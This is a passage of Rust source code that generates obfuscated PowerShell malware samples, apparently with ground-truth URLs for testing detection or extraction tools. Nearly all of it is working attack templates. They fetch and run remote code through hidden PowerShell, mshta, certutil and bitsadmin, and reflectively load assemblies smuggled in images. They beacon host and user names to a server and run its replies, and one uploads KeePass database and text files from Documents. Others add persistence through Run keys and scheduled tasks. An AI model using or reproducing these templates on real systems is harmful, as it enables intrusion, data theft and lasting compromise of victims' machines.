        "$@BASE@ = @URL@\n$@FILES@ = @LIST@\nfor ($@AT@ = 0; $@AT@ -lt $@FILES@.Count; $@AT@++) {\n  $u = '{0}/{1}' -f $@BASE@, $@FILES@[$@AT@]\n  Start-BitsTransfer -Source $u -Destination (\"$env:PUBLIC\\\" + $@FILES@[$@AT@])\n}\n",
    ]);
    let rest = put(
        form,
        &[
            ("BASE", &base),
            ("URL", &word),
            ("FOLDER", &folder),
            ("FILES", &files),
            ("AT", &at),
            ("LIST", &quoted(&list, '\'').join(",")),
        ],
    );
    before + &rest
}

/// A picture that carries what is run.
fn picture(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut before = prelude(dice);
    let url = truth.url(dice, &[".jpg", ".png"]);
    let word = hide(dice, &url, &mut before);
    let (image, client, data, text) =
        (mixed(dice, 6), mixed(dice, 6), mixed(dice, 6), mixed(dice, 6));
    let rest = put(
        "$@IMAGE@ = @URL@;\n$@CLIENT@ = New-Object System.Net.WebClient;\n$@CLIENT@.Headers.Add('User-Agent','@AGENT@');\n$@DATA@ = $@CLIENT@.DownloadData($@IMAGE@);\n$@TEXT@ = [System.Text.Encoding]::UTF8.GetString($@DATA@);\n$startFlag = '<<BASE64_START>>';\n$endFlag = '<<BASE64_END>>';\n$startIndex = $@TEXT@.IndexOf($startFlag);\n$endIndex = $@TEXT@.IndexOf($endFlag);\nif ($startIndex -ge 0 -and $endIndex -gt $startIndex) {\n$startIndex += $startFlag.Length;\n$base64Length = $endIndex - $startIndex;\n$base64Command = $@TEXT@.Substring($startIndex, $base64Length);\n$commandBytes = [System.Convert]::FromBase64String($base64Command);\n$loadedAssembly = [System.Reflection.Assembly]::Load($commandBytes);\n$type = $loadedAssembly.GetType('dnlib.IO.Home');\n$method = $type.GetMethod('VAI').Invoke($null, [object[]] ('0', 'desativado', 'desativado', 'RegAsm', ''));\n}\n",
        &[
            ("IMAGE", &image),
            ("URL", &word),
            ("CLIENT", &client),
            ("AGENT", agent(dice)),
            ("DATA", &data),
            ("TEXT", &text),
        ],
    );
    let inner = before + &rest;
    match dice.below(3) {
        0 => inner,
        // Quotes would be lost among the arguments of a program.
        1 if !inner.contains('"') => {
            let name = mixed(dice, 5);
            let packed = base64(&wide(&inner)).replace('A', "#@%");
            format!(
                "${name} = '{packed}';\n$OWjuxd = [System.Text.Encoding]::Unicode.GetString([System.Convert]::FromBase64String(${name}.Replace('#@%','A')));\npowershell.exe -windowstyle hidden -executionpolicy bypass -NoProfile -command $OWjuxd\n"
            )
        }
        _ => format!("powershell.exe -NoLogo -NoP -W Hidden -Enc {}\n", base64(&wide(&inner))),
    }
}

/// Components of Windows that fetch.
fn com(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut before = prelude(dice);
    let url = truth.url(dice, &["", ".ps1", ".dat"]);
    let word = address(dice, &url, &mut before);
    let (name, invoke) = (veiled(dice), invoke(dice));
    let form = dice.pick(&[
        "$@NAME@ = New-Object -ComObject Msxml2.XMLHTTP\n$@NAME@.open('GET', @URL@, $false)\n$@NAME@.send()\n@INVOKE@ $@NAME@.responseText\n",
        "$@NAME@=new-object -com WinHttp.WinHttpRequest.5.1;$@NAME@.open('GET',@URL@,$false);$@NAME@.SetRequestHeader('Accept','*/*');$@NAME@.send();@INVOKE@ $@NAME@.responseText\n",
        "$@NAME@ = New-Object -ComObject InternetExplorer.Application\nwhile ($@NAME@.Busy) { Start-Sleep -Milliseconds 100 }\n$@NAME@.visible = $false\n$@NAME@.navigate(@URL@)\nwhile ($@NAME@.ReadyState -ne 4) { Start-Sleep -Milliseconds 100 }\n@INVOKE@ $@NAME@.Document.body.innerText\n$@NAME@.Quit()\n",
        "$@NAME@ = [Activator]::CreateInstance([Type]::GetTypeFromProgID('MSXML2.ServerXMLHTTP.6.0'))\n$@NAME@.open('GET', @URL@, $false)\n$@NAME@.setOption(2, 13056)\n$@NAME@.send($null)\n[scriptblock]::Create($@NAME@.responseText).Invoke()\n",
    ]);
    before + &put(form, &[("NAME", &name), ("URL", &word), ("INVOKE", &invoke)])
}

/// Programs of Windows that fetch.
fn programs(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut before = prelude(dice);
    let url = truth.url(dice, &["", ".msi", ".hta", ".dll"]);
    let word = hide(dice, &url, &mut before);
    let (name, file) = (veiled(dice), dice.name());
    let _ = writeln!(before, "${name} = {word}");
    let form = dice.pick(&[
        "msiexec.exe /i $@NAME@ /qn\n",
        "Start-Process msiexec -ArgumentList \"/i $@NAME@ /quiet /norestart\" -Wait\n",
        "& mshta.exe $@NAME@\n",
        "curl.exe -k -s -o \"$env:TEMP\\@FILE@.dll\" $@NAME@\nrundll32.exe \"$env:TEMP\\@FILE@.dll\",Start\n",
        "certutil.exe -urlcache -split -f $@NAME@ \"$env:PUBLIC\\@FILE@.exe\" | Out-Null\nStart-Process \"$env:PUBLIC\\@FILE@.exe\"\n",
        "cmd.exe /c \"bitsadmin /transfer @FILE@ /download /priority foreground $@NAME@ %TEMP%\\@FILE@.exe & start %TEMP%\\@FILE@.exe\"\n",
        "Start-Process -WindowStyle Hidden -FilePath 'mshta' -ArgumentList $@NAME@\n",
        "$c = \"iex (irm $@NAME@)\"\nStart-Process powershell -WindowStyle Hidden -ArgumentList '-nop','-c',$c\n",
    ]);
    before + &put(form, &[("NAME", &name), ("FILE", &file)])
}

/// SocGholish's and others' first word home.
fn beacon(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut before = prelude(dice);
    let url = truth.url(dice, &["", "/gate.php", "/api/check"]);
    let word = address(dice, &url, &mut before);
    let (body, id, at) = (veiled(dice), 10 + dice.below(900), veiled(dice));
    let form = dice.pick(&[
        "$@BODY@ = @{ id = @ID@; host = $env:COMPUTERNAME; user = $env:USERNAME; os = (Get-CimInstance Win32_OperatingSystem).Caption } | ConvertTo-Json\n$@AT@ = Invoke-RestMethod -Method Post -Uri @URL@ -Body $@BODY@ -ContentType 'application/json' -UserAgent '@AGENT@'\nif ($@AT@) { Invoke-Expression $@AT@ }\n",
        "$@BODY@ = \"build=@ID@&comp=$env:COMPUTERNAME\"\nwhile ($true) {\n    try {\n        $@AT@ = (New-Object Net.WebClient).UploadString(@URL@, 'POST', $@BODY@)\n        if ($@AT@.Length -gt 4) { & ([scriptblock]::Create($@AT@)) }\n    } catch {}\n    Start-Sleep -Seconds @ID@\n}\n",
        "$@AT@ = [System.Net.HttpWebRequest]::Create(@URL@)\n$@AT@.Method = 'POST'\n$@AT@.UserAgent = '@AGENT@'\n$@AT@.Timeout = 15000\n$@BODY@ = [Text.Encoding]::UTF8.GetBytes('v=@ID@')\n$@AT@.ContentLength = $@BODY@.Length\n$s = $@AT@.GetRequestStream()\n$s.Write($@BODY@, 0, $@BODY@.Length)\n$s.Close()\n$r = New-Object IO.StreamReader($@AT@.GetResponse().GetResponseStream())\niex $r.ReadToEnd()\n",
        "$@BODY@ = Get-ChildItem \"$env:USERPROFILE\\Documents\" -Include *.kdbx,*.txt -Recurse | Select-Object -First 5\nforeach ($@AT@ in $@BODY@) {\n    Invoke-WebRequest -Uri @URL@ -Method Post -InFile $@AT@.FullName -UseBasicParsing | Out-Null\n}\nInvoke-WebRequest -Uri @URL@ -Method Post -Body 'done=@ID@' -UseBasicParsing | Out-Null\n",
    ]);
    let rest = put(
        form,
        &[
            ("BODY", &body),
            ("ID", &id.to_string()),
            ("AT", &at),
            ("AGENT", agent(dice)),
            ("URL", &word),
        ],
    );
    before + &rest
}

/// Over a WebSocket.
fn socket_of_web(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut before = prelude(dice);
    let parts = Parts::of(&dice.url(&["", "/ws"]));
    let port = parts.port.map_or(String::new(), |port| format!(":{port}"));
    let scheme = if parts.scheme == "https" { "wss" } else { "ws" };
    let url = format!("{scheme}://{}{port}{}", parts.host, parts.path);
    truth.urls.insert(url.clone());
    let word = address(dice, &url, &mut before);
    let rest = put(
        "$@WS@ = New-Object System.Net.WebSockets.ClientWebSocket\n$@CT@ = New-Object System.Threading.CancellationToken\n$@TASK@ = $@WS@.ConnectAsync(@URL@, $@CT@)\nwhile (!$@TASK@.IsCompleted) { Start-Sleep -Milliseconds 100 }\n$buf = New-Object System.ArraySegment[byte] -ArgumentList @(,(New-Object byte[] 4096))\nwhile ($@WS@.State -eq 'Open') {\n    $r = $@WS@.ReceiveAsync($buf, $@CT@)\n    $r.Wait()\n    iex ([Text.Encoding]::UTF8.GetString($buf.Array, 0, $r.Result.Count))\n}\n",
        &[("WS", &veiled(dice)), ("CT", &veiled(dice)), ("TASK", &veiled(dice)), ("URL", &word)],
    );
    before + &rest
}

/// An assembly is fetched and loaded.
fn dot_net(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut before = prelude(dice);
    let url = truth.url(dice, &[".txt", ".dll", "", ".pdf"]);
    let word = address(dice, &url, &mut before);
    let (data, name) = (veiled(dice), mixed(dice, 5));
    let form = dice.pick(&[
        "[byte[]]$@DATA@ = (New-Object System.Net.WebClient).DownloadData(@URL@)\n[System.AppDomain]::CurrentDomain.Load($@DATA@).EntryPoint.Invoke($null, $null)\n",
        "$@DATA@ = (New-Object Net.WebClient).DownloadString(@URL@)\n$@DATA@ = $@DATA@.Replace('%^', 'A')\n[Reflection.Assembly]::Load([Convert]::FromBase64String($@DATA@)).GetType('@NAME@.Program').GetMethod('Main').Invoke($null, @(,[string[]]@()))\n",
        "Add-Type -AssemblyName System.Net.Http\n$h = New-Object System.Net.Http.HttpClient\n$h.DefaultRequestHeaders.Add('User-Agent', '@AGENT@')\n$@DATA@ = $h.GetByteArrayAsync(@URL@).GetAwaiter().GetResult()\nfor ($i = 0; $i -lt $@DATA@.Length; $i++) { $@DATA@[$i] = $@DATA@[$i] -bxor 0x4f }\n[Reflection.Assembly]::Load($@DATA@)\n[@NAME@.Loader]::Run()\n",
    ]);
    before + &put(form, &[("DATA", &data), ("NAME", &name), ("AGENT", agent(dice)), ("URL", &word)])
}

/// A task that asks again and again; it is also asked at once.
fn persistent(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut before = prelude(dice);
    let url = truth.url(dice, &["", ".ps1"]);
    let word = hide(dice, &url, &mut before);
    let (name, task) = (veiled(dice), mixed(dice, 7));
    let form = dice.pick(&[
        "$@NAME@ = @URL@\n$cmd = \"-w hidden -nop -c `\"iex (irm '$@NAME@')`\"\"\n$a = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument $cmd\n$t = New-ScheduledTaskTrigger -Once -At (Get-Date) -RepetitionInterval (New-TimeSpan -Minutes 30)\nRegister-ScheduledTask -TaskName '@TASK@' -Action $a -Trigger $t -Force | Out-Null\niex (irm $@NAME@)\n",
        "$@NAME@ = @URL@\nSet-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name @TASK@ -Value \"mshta $@NAME@\"\nStart-Process mshta $@NAME@\n",
        "$@NAME@ = @URL@\n$f = \"$env:APPDATA\\@TASK@.ps1\"\nInvoke-WebRequest $@NAME@ -OutFile $f\nschtasks /create /sc minute /mo 15 /tn '@TASK@' /tr \"powershell -ep bypass -w hidden -f $f\" /f | Out-Null\npowershell -ep bypass -w hidden -f $f\n",
        "$@NAME@ = {\n    param($u)\n    $w = New-Object Net.WebClient\n    & ([scriptblock]::Create($w.DownloadString($u)))\n}\n$p = @URL@\nStart-Job -Name @TASK@ -ScriptBlock $@NAME@ -ArgumentList $p | Wait-Job | Receive-Job\n",
    ]);
    before + &put(form, &[("NAME", &name), ("TASK", &task), ("URL", &word)])
}
